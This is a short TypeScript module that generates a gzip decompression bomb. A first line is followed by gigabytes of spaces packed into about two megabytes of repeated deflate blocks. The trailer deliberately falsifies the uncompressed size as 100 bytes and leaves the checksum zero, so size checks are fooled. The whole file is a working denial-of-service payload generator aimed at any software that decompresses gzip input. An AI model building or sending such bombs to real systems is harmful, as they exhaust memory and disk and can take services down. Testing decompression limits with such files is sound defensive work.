/** A gzip that grows a thousandfold: gigabytes of spaces in two megabytes, and a lie about it in its last bytes. */
import { constants, deflateRawSync } from 'node:zlib'

const blockBytes = 16 * 1024 * 1024

/** A first line, then spaces: `gigabytes` of them. */
export function bomb(firstLine: string, gigabytes: number): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])
  // Flushed whole, a block refers to nothing before it, so the same bytes may follow one another.
  const flushed = { level: 9, finishFlush: constants.Z_FULL_FLUSH }
  const first = deflateRawSync(`${firstLine}\n`, flushed)
  const block = deflateRawSync(Buffer.alloc(blockBytes, ' '), flushed)
  const blocks = Array.from({ length: Math.ceil((gigabytes * 1024 * 1024 * 1024) / blockBytes) }, () => block)
  const trailer = Buffer.alloc(8)
  trailer.writeUInt32LE(100, 4)
  return Buffer.concat([header, first, ...blocks, deflateRawSync(''), trailer])
}
